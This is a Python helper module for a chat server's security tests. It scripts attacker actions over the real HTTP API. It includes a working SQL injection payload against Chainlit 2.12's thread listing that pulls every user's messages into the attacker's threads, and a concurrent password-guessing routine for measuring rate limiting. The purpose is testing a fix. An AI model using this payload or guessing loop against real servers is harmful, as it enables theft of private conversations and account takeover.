"""What an attacker does to the chat server, over its real HTTP API and socket: shared by the
security tests and by the script that measures the attacks against a server (before and after).
"""
from __future__ import annotations

import asyncio
import contextlib
import io
import os
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from unittest import mock

import httpx

from .chat_server import ROOT
from .env import demo_env


def injection(attacker: str) -> str:
    """A thread id that turns Chainlit 2.12's `IN ('…')` (thread ids pasted as text into the query of
    `get_all_user_threads`) into a UNION over every user's steps. Each stolen step is filed under
    one of the attacker's own threads (the result is grouped by thread id; an unknown id would
    crash the listing), and the trailing `--` comments out the closing `')`."""
    return ("x') UNION SELECT s.\"id\", s.\"name\", s.\"type\", "
            f"(SELECT MIN(t.\"id\") FROM threads t WHERE t.\"userIdentifier\" = '{attacker}'), "
            "NULL, 0, NULL, NULL, '{}', NULL, '', s.\"output\", s.\"createdAt\", NULL, NULL, '{}', "
            "NULL, NULL, NULL, NULL, NULL FROM steps s --")


async def login_cookie(base: str, username: str, password: str) -> str:
    async with httpx.AsyncClient(base_url=base) as http:
        r = await http.post("/login", data={"username": username, "password": password})
        r.raise_for_status()
        return "; ".join(f"{k}={v}" for k, v in r.cookies.items())


async def list_threads(base: str, cookie: str, first: int = 20) -> httpx.Response:
    """The sidebar's request, as the frontend makes it: POST with pagination and an empty filter."""
    async with httpx.AsyncClient(base_url=base, headers={"Cookie": cookie}) as http:
        return await http.post("/project/threads", json={"pagination": {"first": first, "cursor": None},
                                                         "filter": {}})


async def request(base: str, method: str, path: str, cookie: str | None = None, **kwargs: Any) -> httpx.Response:
    headers = {"Cookie": cookie} if cookie else {}
    async with httpx.AsyncClient(base_url=base, headers=headers) as http:
        return await http.request(method, path, **kwargs)


def outputs(threads: list[dict]) -> list[str]:
    return [s.get("output") or "" for t in threads for s in t.get("steps", [])]


def users_process(data_dir: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """`python -m chat.users ARGS` on a data folder, as an operator runs it: a process of its own."""
    return subprocess.run([sys.executable, "-m", "chat.users", *args], cwd=ROOT, capture_output=True, text=True,
                          env=demo_env(DESK_DATA_DIR=str(data_dir)), timeout=60)


def users(data_dir: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """`python -m chat.users ARGS` on a data folder: its `main`, run in this process (no new interpreter a call;
    `users_process` starts one), with the environment, the working folder and the exit code a process has."""
    from chat.users import main  # the chat's imports only where a test manages accounts

    out, err = io.StringIO(), io.StringIO()
    here = Path.cwd()
    with mock.patch.dict(os.environ, demo_env(DESK_DATA_DIR=str(data_dir)), clear=True), \
            contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            code = main(list(args))
        except SystemExit as exit_:  # argparse refusing a command
            code = exit_.code if isinstance(exit_.code, int) else (0 if exit_.code is None else 2)
        finally:
            os.chdir(here)  # main goes to the checkout's root, as the command does
    return subprocess.CompletedProcess(["python", "-m", "chat.users", *args], code, out.getvalue(), err.getvalue())


@dataclass
class Guessing:
    attempts: int
    checked: int       # answered 401 (a wrong password was looked at) or 200
    throttled: int     # answered 429 without looking at the password
    seconds: float

    @property
    def per_second(self) -> float:
        """Password guesses the server actually checked, per second."""
        return self.checked / self.seconds

    @property
    def attempts_per_second(self) -> float:
        return self.attempts / self.seconds


async def guess(base: str, username: str, n: int = 200, concurrency: int = 8) -> Guessing:
    """`n` wrong passwords for `username`, `concurrency` at a time, as fast as the server answers."""
    codes: list[int] = []
    queue = iter(range(n))

    async def worker(http: httpx.AsyncClient) -> None:
        for i in queue:
            r = await http.post("/login", data={"username": username, "password": f"guess-{i:04d}"})
            codes.append(r.status_code)

    start = time.perf_counter()
    async with httpx.AsyncClient(base_url=base, timeout=60) as http:
        await asyncio.gather(*(worker(http) for _ in range(concurrency)))
    seconds = time.perf_counter() - start
    return Guessing(n, sum(c in (200, 401) for c in codes), codes.count(429), seconds)
